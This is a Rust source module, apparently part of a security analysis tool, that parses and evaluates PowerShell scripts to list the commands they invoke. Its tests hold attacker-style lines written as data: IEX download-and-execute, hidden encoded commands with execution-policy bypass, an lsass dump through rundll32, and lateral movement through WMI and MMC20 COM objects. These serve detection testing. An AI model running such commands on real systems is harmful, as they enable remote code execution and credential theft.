//! PowerShell command lines and scripts: which commands does a text call, with which arguments?
//!
//! ```text
//! text -> parse (tree) -> eval (values as far as they are known) -> calls, in order
//! ```

mod eval;
mod parse;
mod tree;

use super::matching::Args;

pub use parse::{NESTING_MAX, TEXT_BYTES_MAX};

/// Stands in texts for what only a running PowerShell would know.
pub const UNKNOWN: char = '\u{E000}';

/// What powershell.exe is told to do.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Params {
    /// `-Command`, or what follows the options.
    pub command: Option<String>,
    /// `-EncodedCommand`
    pub encoded: Option<String>,
    /// `-File`
    pub file: Option<String>,
    /// `-NoExit`
    pub no_exit: bool,
}

/// A command, or a method that a script calls.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Call {
    /// Name as written, aliases resolved; `[type]::Method` and `kind.Method` for methods.
    pub name: String,
    /// Written as a path: never a cmdlet.
    pub path: bool,
    /// Arguments, values filled in as far as they are known.
    pub args: Vec<Arg>,
    /// The statement's text, without surrounding blanks.
    pub text: String,
    /// File that `>` names.
    pub into: Option<String>,
    /// The code that Invoke-Expression was given; what it calls follows.
    pub code: Option<String>,
    /// Number of the pipeline it stands in.
    pub pipe: u32,
}

/// An argument.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Arg {
    /// Value; for `{ … }` the inside; `-Name` for a parameter's name.
    pub value: String,
    /// It was `{ … }`.
    pub block: bool,
    /// It is a parameter's name.
    pub option: bool,
    /// It is a value whatever it begins with.
    pub literal: bool,
    /// Nobody wrote it: a property of the object, or a member of the table, before it.
    pub part: bool,
    /// Members when it was a list.
    pub items: Vec<String>,
}

/// What a script asks about the world.
#[derive(Clone, Copy, Debug)]
pub enum Ask<'a> {
    /// An environment variable.
    Env(&'a str),
    /// Sets an environment variable: name, value.
    Set(&'a str, &'a str),
    /// Process id of a program; `self` is the shell.
    Pid(&'a str),
    /// A random number between two.
    Random(i32, i32),
    /// A random GUID.
    Guid,
    /// The date in a format.
    Date(&'a str),
}

impl Arg {
    /// A parameter's name.
    fn option(name: &str) -> Arg {
        Arg { value: format!("-{name}"), option: true, ..Arg::default() }
    }
}

/// Names that stand for cmdlets.
const ALIASES: &[(&str, &str)] = &[
    ("iex", "Invoke-Expression"),
    ("iwr", "Invoke-WebRequest"),
    ("wget", "Invoke-WebRequest"),
    ("curl", "Invoke-WebRequest"),
    ("irm", "Invoke-RestMethod"),
    ("icm", "Invoke-Command"),
    ("saps", "Start-Process"),
    ("start", "Start-Process"),
    ("gwmi", "Get-WmiObject"),
    ("iwmi", "Invoke-WmiMethod"),
    ("swmi", "Set-WmiInstance"),
    ("gcim", "Get-CimInstance"),
    ("icim", "Invoke-CimMethod"),
    ("ncim", "New-CimInstance"),
    ("gps", "Get-Process"),
    ("ps", "Get-Process"),
    ("spps", "Stop-Process"),
    ("kill", "Stop-Process"),
    ("gsv", "Get-Service"),
    ("sasv", "Start-Service"),
    ("spsv", "Stop-Service"),
    ("gc", "Get-Content"),
    ("cat", "Get-Content"),
    ("type", "Get-Content"),
    ("ac", "Add-Content"),
    ("cp", "Copy-Item"),
    ("copy", "Copy-Item"),
    ("cpi", "Copy-Item"),
    ("mv", "Move-Item"),
    ("move", "Move-Item"),
    ("mi", "Move-Item"),
    ("ren", "Rename-Item"),
    ("rni", "Rename-Item"),
    ("rm", "Remove-Item"),
    ("del", "Remove-Item"),
    ("erase", "Remove-Item"),
    ("ri", "Remove-Item"),
    ("rd", "Remove-Item"),
    ("rmdir", "Remove-Item"),
    ("ni", "New-Item"),
    ("md", "New-Item"),
    ("mkdir", "New-Item"),
    ("si", "Set-Item"),
    ("sp", "Set-ItemProperty"),
    ("gp", "Get-ItemProperty"),
    ("rp", "Remove-ItemProperty"),
    ("gci", "Get-ChildItem"),
    ("ls", "Get-ChildItem"),
    ("dir", "Get-ChildItem"),
    ("foreach", "ForEach-Object"),
    ("%", "ForEach-Object"),
    ("where", "Where-Object"),
    ("?", "Where-Object"),
    ("echo", "Write-Output"),
    ("write", "Write-Output"),
    ("sleep", "Start-Sleep"),
    ("cd", "Set-Location"),
    ("sl", "Set-Location"),
    ("nsn", "New-PSSession"),
    ("etsn", "Enter-PSSession"),
    ("ipmo", "Import-Module"),
    ("sajb", "Start-Job"),
    ("tee", "Tee-Object"),
    ("select", "Select-Object"),
];

/// Cmdlets that are known without an effect.
const CMDLETS: &[&str] = &[
    "Join-Path",
    "Split-Path",
    "Resolve-Path",
    "Convert-Path",
    "Get-Location",
    "Get-Random",
    "New-Guid",
    "Get-Date",
    "Get-Variable",
    "Set-Variable",
    "New-Variable",
    "ConvertTo-SecureString",
    "Get-Credential",
    "Get-Unique",
    "Measure-Object",
    "Write-Host",
    "Write-Verbose",
    "Write-Warning",
    "Write-Error",
    "Write-Debug",
    "Write-Progress",
    "Out-Null",
    "Out-Default",
    "Out-String",
    "Set-StrictMode",
    "Sort-Object",
    "Format-Table",
    "Format-List",
    "New-Object",
    "Push-Location",
    "Pop-Location",
];

/// A cmdlet's name as its module spells it, if it is one of those known here.
pub fn spelt(cmdlet: &str) -> Option<&'static str> {
    let all = CMDLETS.iter().chain(ALIASES.iter().map(|(_, full)| full));
    all.copied().find(|c| c.eq_ignore_ascii_case(cmdlet))
}

/// Parameters as their cmdlets spell them, and other names of some.
const PARAMETERS: &[(&str, &str)] = &[
    ("ea", "ErrorAction"),
    ("wa", "WarningAction"),
    ("ev", "ErrorVariable"),
    ("ov", "OutVariable"),
    ("vb", "Verbose"),
    ("db", "Debug"),
    ("wi", "WhatIf"),
    ("cf", "Confirm"),
    ("cn", "ComputerName"),
    ("pspath", "LiteralPath"),
    ("args", "ArgumentList"),
    ("com", "ComObject"),
    ("", "Append"),
    ("", "AsJob"),
    ("", "Credential"),
    ("", "Encoding"),
    ("", "Exclude"),
    ("", "FilePath"),
    ("", "Filter"),
    ("", "Force"),
    ("", "Id"),
    ("", "Include"),
    ("", "InputObject"),
    ("", "List"),
    ("", "Name"),
    ("", "NoClobber"),
    ("", "NoNewline"),
    ("", "NoNewWindow"),
    ("", "PassThru"),
    ("", "Path"),
    ("", "Property"),
    ("", "Raw"),
    ("", "Recurse"),
    ("", "ScriptBlock"),
    ("", "Session"),
    ("", "TypeName"),
    ("", "UseBasicParsing"),
    ("", "Value"),
    ("", "Wait"),
];

/// A parameter (without its dash) as cmdlets spell it, if it is one that many have.
pub fn parameter(typed: &str) -> Option<&'static str> {
    let hit = |(alias, full): &&(&str, &str)| full.eq_ignore_ascii_case(typed) || alias.eq_ignore_ascii_case(typed);
    PARAMETERS.iter().find(hit).map(|(_, full)| *full)
}

/// True for a parameter (without its dash) that has no value in any cmdlet.
pub fn is_switch(typed: &str) -> bool {
    SWITCHES.contains(&&*typed.to_lowercase())
}

/// Parameters of powershell.exe that take a value, beside those that say what to do.
const VALUED: &[&str] = &[
    "executionpolicy",
    "ep",
    "exec",
    "windowstyle",
    "version",
    "inputformat",
    "outputformat",
    "psconsolefile",
    "configurationname",
    "workingdirectory",
    "wd",
    "settingsfile",
    "custompipename",
];

/// Reads the arguments of powershell.exe.
pub fn params(argv: &[String]) -> Params {
    let mut p = Params::default();
    let mut i = 0;
    while i < argv.len() {
        let arg = &argv[i];
        let Some(name) = arg.strip_prefix(['-', '/', '–']).filter(|n| !n.is_empty()) else {
            p.command = Some(argv[i..].join(" "));
            return p;
        };
        let lower = name.to_lowercase();
        let is = |full: &str, least: usize| lower.len() >= least && full.starts_with(&*lower);
        i += 1;
        if is("command", 1) {
            p.command = Some(argv[i..].join(" "));
            return p;
        } else if is("encodedcommand", 1) || lower == "ec" {
            p.encoded = argv.get(i).cloned();
            i += 1;
        } else if is("file", 1) {
            p.file = Some(argv[i..].join(" "));
            return p;
        } else if is("noexit", 3) {
            p.no_exit = true;
        } else if VALUED.iter().any(|v| v.starts_with(&*lower) && !is("noprofile", 3)) {
            i += 1;
        }
    }
    p
}

/// The commands that a text calls. The second is false when a limit cut something off.
pub fn calls(text: &str, ask: &mut dyn FnMut(Ask<'_>) -> Option<String>) -> (Vec<Call>, bool) {
    let mut e = eval::Eval::new(ask);
    e.script(&text.replace(UNKNOWN, ""));
    (e.out, !e.cut)
}

impl Call {
    /// Arguments as effects match them.
    pub fn args(&self) -> Args {
        let argv: Vec<String> = self.args.iter().map(|a| a.value.clone()).collect();
        let options = self.args.iter().map(|a| a.option).collect();
        Args { line: argv.join(" "), argv, options: Some(options) }
    }
    /// The value of a parameter (given by its beginning) or of a position.
    pub fn get(&self, name: &str, position: Option<usize>) -> Option<&Arg> {
        let mut plain = 0;
        let mut i = 0;
        while i < self.args.len() {
            let a = &self.args[i];
            i += 1;
            if !a.option {
                if Some(plain) == position {
                    return Some(a);
                }
                plain += 1;
                continue;
            }
            let n = a.value[1..].trim_end_matches(':').to_lowercase();
            let value = self.args.get(i).filter(|v| !v.option);
            if !n.is_empty() && name.starts_with(&*n) {
                return value;
            }
            // a switch has no value; `-Verb` is a parameter of its own, not a shortened `-Verbose`
            let switch = n != "verb" && SWITCHES.iter().any(|s| s.starts_with(&*n));
            i += usize::from(value.is_some() && !switch);
        }
        None
    }
    /// True when a switch is there.
    pub fn has(&self, name: &str) -> bool {
        let short = |a: &Arg| a.value[1..].trim_end_matches(':').to_lowercase();
        self.args.iter().filter(|a| a.option).any(|a| !short(a).is_empty() && name.starts_with(&*short(a)))
    }
    /// Calls for each member of the first list among the arguments that name things.
    pub fn each(&self) -> Vec<Call> {
        const NAMES: &[&str] = &[
            "-path",
            "-literalpath",
            "-filepath",
            "-computername",
            "-name",
            "-id",
            "-inputobject",
            "-exclusionpath",
            "-exclusionprocess",
            "-exclusionextension",
            "-processname",
            "-servicename",
            "-logname",
            "-cn",
        ];
        let named = |i: usize| match i.checked_sub(1).map(|j| &self.args[j]) {
            Some(a) if a.option => NAMES.contains(&&*a.value.trim_end_matches(':').to_lowercase()),
            // of those without a name only the first names what is acted on
            _ => i == 0,
        };
        let hit = self.args.iter().enumerate().find(|(i, a)| a.items.len() > 1 && named(*i));
        let Some((at, list)) = hit else { return vec![self.clone()] };
        let one = |item: &String| {
            let mut c = self.clone();
            c.args[at] = Arg { value: item.clone(), literal: true, ..Arg::default() };
            c
        };
        list.items.iter().take(EACH_MAX).map(one).collect()
    }
}

/// Members of a list that are played.
const EACH_MAX: usize = 24;

/// Parameters without a value.
const SWITCHES: &[&str] = &[
    "wait",
    "nonewwindow",
    "passthru",
    "force",
    "asjob",
    "recurse",
    "append",
    "nonewline",
    "noclobber",
    "usebasicparsing",
    "verbose",
    "debug",
    "confirm",
    "whatif",
    "list",
    "raw",
    "hidden",
    "credential?",
];

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn show(text: &str) -> String {
        let mut ask = |a: Ask<'_>| match a {
            Ask::Env(n) => n.eq_ignore_ascii_case("temp").then(|| r"C:\T".to_owned()),
            Ask::Pid(n) => Some(format!("<pid of {n}>")),
            _ => None,
        };
        let all: Vec<String> = calls(text, &mut ask)
            .0
            .iter()
            .filter(|c| !["ForEach-Object", "Write-Host", "Get-Random"].contains(&&*c.name))
            .map(|c| {
                let args: Vec<String> = c
                    .args
                    .iter()
                    .map(|a| match a {
                        a if a.block => format!("{{{}}}", a.value),
                        a if a.option => format!(" {}", a.value),
                        a => format!("<{}>", a.value.replace(UNKNOWN, "?")),
                    })
                    .collect();
                format!("{}{}{}", c.name, args.concat(), c.into.as_ref().map_or(String::new(), |t| format!(" >{t}")))
            })
            .collect();
        all.join("; ")
    }

    #[test]
    fn table() {
        let table = [
            ("whoami /all", "whoami</all>"),
            ("whoami; hostname | Out-File $env:TEMP\\x.txt", "whoami; hostname; Out-File<C:\\T\\x.txt>"),
            (
                "$u = 'http://x/a'; iwr $u -OutFile \"$env:temp\\a.exe\"",
                "Invoke-WebRequest<http://x/a> -OutFile<C:\\T\\a.exe>",
            ),
            (
                "IEX (New-Object Net.WebClient).DownloadString('http://x')",
                "New-Object<Net.WebClient>; webclient.DownloadString<http://x>; Invoke-Expression<?> -arg<http://x>",
            ),
            ("iex 'whoami /all'", "Invoke-Expression<whoami /all>; whoami</all>"),
            ("& { whoami }", "whoami"),
            ("& 'C:\\a b.exe' -x -y:z", "C:\\a b.exe -x -y:<z>"),
            ("if ($a -eq 1) { net user } else { net1 user }", "net1<user>"),
            ("if (Test-Path x) { net user } else { net1 user }", "Test-Path<x>; net<user>"),
            ("if (-not (Test-Path x)) { Write-Host no; exit 1 }; net user", "Test-Path<x>; net<user>"),
            ("1..3 | % { ping 10.0.0.$_ }", "ping<10.0.0.1>; ping<10.0.0.2>; ping<10.0.0.3>"),
            ("foreach ($s in 'a','b') { net use \\\\$s\\c$ }", "net<use><\\\\a\\c$>; net<use><\\\\b\\c$>"),
            ("for ($i=0; $i -lt 2; $i++) { ping $i }", "ping<0>; ping<1>"),
            ("while ($true) { ping x; break }", "ping<x>"),
            ("# c\nGet-Process # d\n<# e #> ls", "Get-Process; Get-ChildItem"),
            ("echo \"a $(hostname) b\"", "hostname; Write-Output<a ? b>"),
            (
                "Invoke-Command -ComputerName s1 -ScriptBlock { whoami }",
                "Invoke-Command -ComputerName<s1> -ScriptBlock{whoami}",
            ),
            ("net user > out.txt 2>$null", "net<user> >out.txt"),
            ("[IO.File]::WriteAllText('a.txt', \"x\")", "[file]::WriteAllText<a.txt><x>"),
            ("Set-Content -Path a `\n -Value b", "Set-Content -Path<a> -Value<b>"),
            ("try { a.exe } catch { b.exe } finally { c.exe }", "a.exe; c.exe"),
            ("$x = Get-Process lsass", "Get-Process<lsass>"),
            (
                "rundll32 a.dll, Dump (Get-Process lsass).Id f",
                "Get-Process<lsass>; rundll32<a.dll,Dump><<pid of lsass>><f>",
            ),
            ("function f($a) { net user $a }; f bob; f -a eve", "net<user><bob>; net<user><eve>"),
            ("function f { whoami }", "whoami"),
            ("$p = @{Path='a'; Force=$true}; New-Item @p", "New-Item -force -path<a>"),
            ("& (-join [char[]](99,97,108,99)) (\"{1}{0}\" -f 'b','a')", "calc<ab>"),
            (
                "$e = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes('ls')); powershell -enc $e",
                "powershell -enc<bABzAA==>",
            ),
            (
                "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('dwBoAG8AYQBtAGkA')))",
                "Invoke-Expression<whoami>; whoami",
            ),
            (
                "$s = (New-Object -ComObject WScript.Shell).CreateShortcut('a.lnk'); $s.TargetPath = 'c.exe'; $s.Save()",
                "New-Object -ComObject<WScript.Shell>; wscript.shell.CreateShortcut<a.lnk>; shortcut.Save -arg<a.lnk> -targetpath<c.exe>",
            ),
            (
                "[Activator]::CreateInstance([Type]::GetTypeFromProgID('MMC20.Application','h')).Document.ActiveView.ExecuteShellCommand('calc',$null,$null,'7')",
                "New-Object -ComObject<mmc20.application> -Server<h>; activeview.ExecuteShellCommand<calc><><><7>",
            ),
            (
                "([wmiclass]'Win32_Process').Create('calc.exe')",
                "[wmiclass]<Win32_Process>; wmiclass.Create<calc.exe> -arg<Win32_Process>",
            ),
            (
                "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='calc'}",
                "Invoke-CimMethod -ClassName<Win32_Process> -MethodName<Create> -Arguments -commandline<calc>",
            ),
            ("Stop-Process -Name a, b -Force", "Stop-Process -Name<a,b> -Force"),
            ("gps notepad | spps", "Get-Process<notepad>; Stop-Process -InputObject<notepad> -id<<pid of notepad>>"),
            ("7z a x.7z y", "7z<a><x.7z><y>"),
            (".\\x.exe -a 'b c'", ".\\x.exe -a<b c>"),
            ("\"x\" > $env:temp\\f; ping a && ping b || ping c", "ping<a>; ping<b>; ping<c>"),
        ];
        for (text, want) in table {
            assert_eq!(show(text), want, "{text}");
        }
    }

    #[test]
    fn limits_hold() {
        let deep = |open: &str, close: &str, n: usize| format!("{}a.exe{}", open.repeat(n), close.repeat(n));
        for text in [
            deep("(", ")", 20_000),
            deep("$(", ")", 20_000),
            deep("{", "}", 20_000),
            deep("& { ", " }", 20_000),
            deep("if (1) { ", " }", 9_000),
            deep("$a=", "", 20_000),
            deep("-not ", "", 20_000),
            deep("[int]", "", 20_000),
            deep("\"$(", ")\"", 9_000),
            "[".repeat(60_000),
            "${".repeat(30_000),
            "@{".repeat(30_000),
            "$a=$a,$a;".repeat(7_000),
            "$a='x'*30000;$b=$a+$a+$a;".repeat(2_000),
            "$a=@($a,$a,$a,$a);".repeat(3_000),
            "$a=,$a;".repeat(9_000),
            "function f { f; f }; f".into(),
            "1..999999 | % { 1..999999 | % { 1..999999 | % { a.exe } } }".into(),
            "while ($true) { while ($true) { a.exe } }".into(),
            "iex ".repeat(10_000) + "a",
            "x".repeat(1 << 20),
        ] {
            let (calls, _) = calls(&text, &mut |_| None);
            assert!(calls.len() <= 600, "{}", &text[..40.min(text.len())]);
        }
    }

    #[test]
    fn parameters_of_the_program() {
        let p = |line: &str| params(&super::super::argv::split(line));
        assert_eq!(p("-nop -w hidden -enc QQA=").encoded.as_deref(), Some("QQA="));
        assert_eq!(p("-NoP -sta -ep bypass -c whoami /all").command.as_deref(), Some("whoami /all"));
        assert_eq!(p("-ExecutionPolicy Bypass -File C:\\a.ps1 -x").file.as_deref(), Some("C:\\a.ps1 -x"));
        assert_eq!(p("Get-Process").command.as_deref(), Some("Get-Process"));
        assert!(p("-NoExit -Command x").no_exit);
        assert_eq!(p("-noni"), Params::default());
    }

    proptest! {
        #[test]
        fn no_panic_on_any_script(s in "\\PC{0,160}") {
            show(&s);
        }
        #[test]
        fn no_panic_on_scripts_like_these(s in "(if|iex|foreach|\\$a|=|@'|<#|[ab`'\"$(){}\\[\\]|;&.:,#\n >-]){0,50}") {
            show(&s);
        }
    }
}
